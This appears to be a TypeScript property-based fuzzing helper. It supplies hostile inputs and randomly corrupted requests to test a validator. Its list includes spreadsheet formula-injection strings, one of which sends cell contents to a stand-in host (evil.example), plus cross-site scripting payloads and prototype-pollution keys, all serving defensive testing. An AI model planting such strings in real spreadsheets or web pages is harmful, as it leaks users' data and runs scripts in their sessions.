/** What nobody should type and somebody will. */
import fc from 'fast-check';

export const hostileTexts = [
  '=IMPORTXML("https://evil.example/?"&A1,"//a")',
  '＝IMPORTXML("https://evil.example","//a")',
  '+IMPORTXML("https://evil.example","//a")',
  '-IMPORTDATA("https://evil.example")',
  '@IMPORTXML("x","y")',
  '\t=IMPORTXML("x","y")',
  ' =IMPORTXML("x","y")',
  '\u200b=IMPORTXML("x","y")',
  '\n=IMPORTXML("x","y")',
  '\'=IMPORTXML("x","y")',
  '"),IMPORTXML("x","y")&("',
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '<?= 1 ?>',
  '__proto__',
  'constructor',
  'toString',
  '\u202eabc\u2066',
  '\ud800',
  '\0',
  'A1',
  'TRUE',
  '2026/1/2',
  '007',
  '１２',
  '{1;-2}',
  'N("kpi:m1:ok:higher:0.8:1")=0',
  'あ'.repeat(50_000),
  '',
  "O'Brien!",
  '🦀',
] as const;

/** What cannot even be made a text of. */
const unspeakable = { toString: 1, valueOf: null, length: 1 };

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom<unknown>(...hostileTexts) },
  fc.constantFrom<unknown>(unspeakable, [unspeakable], { ...unspeakable, toJSON: {} }),
  fc.constantFrom<unknown>(undefined, null, true, 0, -1, 1e308, 5e-324, -0, 1e21, [], {}, [[]], [null], {
    length: 5,
  }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
  fc.jsonValue(),
);

type Path = readonly (string | number)[];

/** Every place inside a request, the request itself included. */
function pathsOf(value: unknown, path: Path = []): Path[] {
  if (typeof value !== 'object' || value === null) return [path];
  return [path, ...Object.entries(value).flatMap(([key, inner]) => pathsOf(inner, [...path, key]))];
}

function replaced(value: unknown, [key, ...rest]: Path, by: unknown): unknown {
  if (key === undefined) return by;
  const copy = (Array.isArray(value) ? [...value] : { ...(value as object) }) as Record<
    string | number,
    unknown
  >;
  copy[key] = replaced(copy[key], rest, by);
  return copy;
}

/** A valid request with up to three places spoilt, or anything at all. */
export function spoilt(request: unknown): fc.Arbitrary<unknown> {
  const spoil = fc.record({ at: fc.nat(), by: hostileValue });
  return fc.oneof(
    {
      weight: 6,
      arbitrary: fc.array(spoil, { minLength: 1, maxLength: 3 }).map((spoils) =>
        spoils.reduce<unknown>((now, { at, by }) => {
          const paths = pathsOf(now);
          return replaced(now, paths[at % paths.length]!, by);
        }, request),
      ),
    },
    fc.jsonValue(),
  );
}
